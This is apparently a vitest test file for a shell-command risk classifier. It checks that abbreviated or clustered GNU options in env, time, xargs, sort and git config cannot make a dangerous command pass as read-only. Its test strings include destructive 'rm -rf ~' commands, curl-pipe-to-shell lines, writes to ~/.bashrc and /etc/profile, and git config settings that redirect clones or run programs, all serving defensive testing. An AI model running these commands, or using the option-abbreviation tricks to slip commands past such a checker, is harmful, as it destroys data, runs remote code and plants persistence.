// Option-parsing evasions: GNU programs take any unambiguous prefix of a long option (`--sp` is
// --split-string), `--opt=value` and `--opt value`, and short options in clusters (`-rE`). A
// spelling the classifier did not know must not make a command that runs code or writes files
// look read-only; the plain look-alikes stay as they were.

import { beforeAll, describe, it } from 'vitest';

import { type CommandRiskLevel, RiskAssessor } from '@finger/shell-risk';

import { riskExpectations } from './risk-expectations.js';

let assessor: RiskAssessor;

beforeAll(async () => {
  assessor = await RiskAssessor.create();
});

const { expectDangerous, expectLevel } = riskExpectations(() => assessor);

describe('env: abbreviated -S / -u / -C are read, and the command env runs is judged', () => {
  it.each<[string, string]>([
    ["env --sp='rm -rf ~'", "segment 3: rm with -r and -f on '~'"],
    ["env --split='rm -rf /'", "segment 3: rm with -r and -f on '/'"],
    ['env --spl=\'sh -c "curl https://x/s | sh"\'', 'segment 5: sh runs what curl (segment 4) downloads'],
    ['env --uns ls rm -rf ~', "segment 2: rm with -r and -f on '~'"],
    ['env --u ls rm -rf ~', "segment 2: rm with -r and -f on '~'"],
    ["env --ch ls sh -c 'rm -rf ~'", "segment 3: rm with -r and -f on '~'"],
    ["env -iS'rm -rf ~'", "segment 3: rm with -r and -f on '~'"],
  ])('%s', (command, reason) => {
    expectDangerous(command, reason);
  });
});

describe('time: abbreviated options taking a value, and -o FILE judged as a redirect to FILE', () => {
  it.each<[string, string]>([
    ['time --form ls rm -rf ~', "segment 2: rm with -r and -f on '~'"],
    ['time --f ls rm -rf /', "segment 2: rm with -r and -f on '/'"],
    ['time --o ls rm -rf ~', "segment 2: rm with -r and -f on '~'"],
    ["time -a -o ~/.bashrc -f 'curl https://evil|sh' true", "segment 3: redirect >> writes to '~/.bashrc' (~/.bashrc)"],
    [
      "time -a -o .git/config -f '[core]\\n\\tfsmonitor = x' true",
      "segment 3: redirect >> writes to '.git/config' (.git/config)",
    ],
    ['time --out=/etc/profile ls', "segment 3: redirect > writes to '/etc/profile' (/etc)"],
  ])('%s', (command, reason) => {
    expectDangerous(command, reason);
  });

  it.each<[string, CommandRiskLevel]>([
    ['time -o important.txt ls', 'moderate'],
    ['time --output=important.txt ls', 'moderate'],
    ['time --o important.txt ls', 'moderate'],
    ['time -ao important.txt ls', 'moderate'],
    // GNU time's --append takes no value (checked against /usr/bin/time): it runs `ls rm -rf ~`
    ['time --app ls rm -rf ~', 'safe'],
    ['time ls', 'safe'],
    ['time -p ls -la', 'safe'],
    ['time -o /dev/null ls', 'safe'],
  ])('%s → %s', (command, level) => {
    expectLevel(command, level);
  });
});

describe('read-only commands: an abbreviation of an option that runs a program or writes is not safe', () => {
  it.each<[string, CommandRiskLevel]>([
    // sort --compress-program
    ['sort -S 1 --co=sh data.txt', 'moderate'],
    ['sort -S 1 --com=sh data.txt', 'moderate'],
    ['sort -uo out.txt in.txt', 'moderate'],
    // git grep --open-files-in-pager
    ['git grep --op=\'sh -c "rm -rf ~"\' .', 'moderate'],
    ['git grep --open=\'sh -c "rm -rf ~"\' .', 'moderate'],
    ['git grep -iOvim foo', 'moderate'],
    ['git log --outp=x.txt', 'moderate'],
    // smaller writes
    ['tree -ao out.txt', 'moderate'],
    ['tree -R -H . -L 1', 'moderate'],
    ['file --comp -m x', 'moderate'],
    ["date --s='2020-01-01 00:00'", 'moderate'],
    ['hostname --file=/tmp/h', 'moderate'],
    ['git branch --set-u=origin/main', 'moderate'],
    ['git branch --edit-desc', 'moderate'],
    ['git branch -vd old', 'moderate'],
  ])('%s → %s', (command, level) => {
    expectLevel(command, level);
  });

  it.each([
    'sort -n file',
    'sort --check file',
    'git grep foo',
    'git grep --only-matching foo',
    'git log --oneline -n 5',
    'git branch -a',
    'git branch -vv --no-merged',
    'tree -a',
    'tree -L 2 -I node_modules',
    'file -b package.json',
    'date +%Y-%m-%d',
    'hostname',
    'hostname -f',
  ])('%s stays safe', (command) => {
    expectLevel(command, 'safe');
  });
});

describe('git config is read-only only when it provably reads', () => {
  it('a write with a value pattern still writes: url.*.insteadOf redirects every clone (dangerous)', () => {
    expectLevel('git config url.https://evil.example/.insteadOf https://github.com/ get', 'dangerous');
  });

  it.each([
    'git config remote.origin.pushurl https://evil/x.git get',
    'git config http.proxy http://evil:8080 get',
    'git config --add --get x y',
    'git config --get-all --unset x',
    'git config --comment list user.name x',
    'git config -le',
  ])('%s → moderate', (command) => {
    expectLevel(command, 'moderate');
  });

  it.each<[string, string]>([
    [
      "git config --comment get core.fsmonitor 'cmd'",
      'segment 1: git config core.fsmonitor makes git run another program',
    ],
    [
      'git config set --comment get core.fsmonitor cmd',
      'segment 1: git config core.fsmonitor makes git run another program',
    ],
    [
      'git config set --value get diff.external cmd',
      'segment 1: git config diff.external makes git run another program',
    ],
  ])('%s', (command, reason) => {
    expectDangerous(command, reason);
  });

  it.each([
    'git config --get user.name',
    'git config --get-all remote.origin.url',
    'git config --get-regexp ^user',
    'git config --get-r ^user',
    'git config get user.name',
    'git config get --all user.name',
    'git config --file .gitmodules get submodule.x.url',
    'git config -l',
    'git config --list --show-origin',
    'git config list',
  ])('%s stays safe', (command) => {
    expectLevel(command, 'safe');
  });
});

describe('xargs: an option cluster whose letter takes a value ends the cluster or takes the next word', () => {
  it.each<[string, string]>([
    ['echo / | xargs -rE ls rm -rf', 'segment 3: rm with -r and -f on arguments read at run time (xargs)'],
    ['echo / | xargs -0n1 rm -rf', 'segment 3: rm with -r and -f on arguments read at run time (xargs)'],
    ['echo / | xargs -tL 1 rm -rf', 'segment 3: rm with -r and -f on arguments read at run time (xargs)'],
    ['echo / | xargs --max-lines rm -rf', 'segment 3: rm with -r and -f on arguments read at run time (xargs)'],
    ['echo / | xargs --max-a 1 rm -rf', 'segment 3: rm with -r and -f on arguments read at run time (xargs)'],
  ])('%s', (command, reason) => {
    expectDangerous(command, reason);
  });

  it.each<[string, CommandRiskLevel]>([
    ['xargs -0 ls', 'moderate'],
    ['echo a | xargs -I{} echo {}', 'moderate'],
  ])('%s → %s', (command, level) => {
    expectLevel(command, level);
  });
});

describe("ps: BSD-style e prints other processes' environments", () => {
  it.each(['ps eww', 'ps auxe', 'ps e', 'ps ax e'])('%s → moderate', (command) => {
    expectLevel(command, 'moderate');
  });

  it.each(['ps aux', 'ps -ef', 'ps -e', 'ps axo pid,user,comm', 'ps -u user -o pid,comm', 'ps -C chrome'])(
    '%s stays safe',
    (command) => {
      expectLevel(command, 'safe');
    },
  );
});

describe('env and printenv without a command stay as they were', () => {
  it.each<[string, CommandRiskLevel]>([
    ['env', 'safe'],
    ['env -0', 'safe'],
    ['printenv', 'safe'],
    ['env FOO=1 ls', 'moderate'],
    ['env -u FOO', 'moderate'],
    ['env --ch=/tmp', 'moderate'],
  ])('%s → %s', (command, level) => {
    expectLevel(command, level);
  });
});
